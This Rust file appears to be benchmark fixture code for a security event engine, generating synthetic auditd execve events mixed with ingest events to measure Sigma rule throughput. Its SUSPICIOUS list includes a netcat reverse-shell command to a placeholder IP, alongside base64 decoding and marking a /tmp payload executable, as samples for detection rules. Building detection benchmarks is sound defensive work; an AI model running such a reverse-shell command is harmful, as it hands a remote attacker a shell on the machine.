//! Benchmark events: ferrodef's normalized MozDef events as `ferrodef bench ingest` generates
//! them (sshd, sudo, proxy, web; `crates/ferrodef/src/bench.rs`), plus auditd execve events
//! as the auditd parser emits them. Shared by the criterion bench and the
//! `sigma_throughput` example (which also writes them as JSON lines for peer engines).

#![allow(dead_code)]

use ferrodef_event::bench_mix::{generate_at, Times};
use serde_json::{json, Value};

const TS: &str = "2026-11-30T10:00:00.000Z";

/// Event `i` of `ferrodef bench ingest`'s mix (the same generator, at a fixed time).
pub fn ingest_event(i: usize) -> Value {
    let at_ms = chrono::DateTime::parse_from_rfc3339(TS)
        .map(|t| t.timestamp_millis())
        .unwrap_or_default();
    let mut v = generate_at(i, "bench", Times::Fixed { at_ms }, false);
    v["receivedtimestamp"] = Value::from(TS);
    v
}

/// An auditd execve event as ferrodef's auditd parser emits it.
pub fn execve(exe: &str, args: &[&str]) -> Value {
    json!({
        "utctimestamp": TS, "receivedtimestamp": TS,
        "category": "execution", "hostname": "web-1.example.com", "processname": "auditd", "severity": "INFO",
        "summary": format!("execve {}", args.join(" ")), "tags": ["auditd"],
        "details": {"audittype": "SYSCALL", "recordtypes": ["SYSCALL", "EXECVE", "CWD", "PATH", "PROCTITLE"],
                    "syscall": "execve", "exe": exe, "args": args, "command": args.join(" "),
                    "cwd": "/home/alice", "uid": "1000", "auid": "1000", "username": "alice", "ses": "3",
                    "pid": "4242", "ppid": "4000", "success": true, "paths": [exe]}
    })
}

/// Everyday commands (match no corpus rule).
const BENIGN: [&[&str]; 10] = [
    &["ls", "-la"],
    &["cat", "notes.txt"],
    &["grep", "-r", "foo", "."],
    &["ps", "aux"],
    &["git", "status"],
    &["python3", "app.py"],
    &["make", "-j2"],
    &["vim", "notes.txt"],
    &["tar", "czf", "b.tgz", "dir"],
    &["id"],
];

/// Commands corpus rules detect (each matches at least one rule).
const SUSPICIOUS: [&[&str]; 5] = [
    &["base64", "-d", "/tmp/x.b64"],
    &["chmod", "+x", "/tmp/payload"],
    &["nc", "-e", "/bin/sh", "203.0.113.7", "4444"],
    &["crontab", "-l"],
    &["whoami"],
];

/// The benchmark mix: `n` events, 80% `ferrodef bench ingest`'s generator, 20% auditd execve
/// of everyday commands. Matches (almost) nothing.
pub fn realistic_mix(n: usize) -> Vec<Value> {
    (0..n)
        .map(|i| {
            if i % 5 == 4 {
                let c = BENIGN[(i / 5) % BENIGN.len()];
                execve(&format!("/usr/bin/{}", c[0]), c)
            } else {
                ingest_event(i)
            }
        })
        .collect()
}

/// The same mix with every tenth event one that corpus rules detect.
pub fn matching_mix(n: usize) -> Vec<Value> {
    let mut v = realistic_mix(n);
    for (k, i) in (0..n).step_by(10).enumerate() {
        let c = SUSPICIOUS[k % SUSPICIOUS.len()];
        v[i] = execve(&format!("/usr/bin/{}", c[0]), c);
    }
    v
}
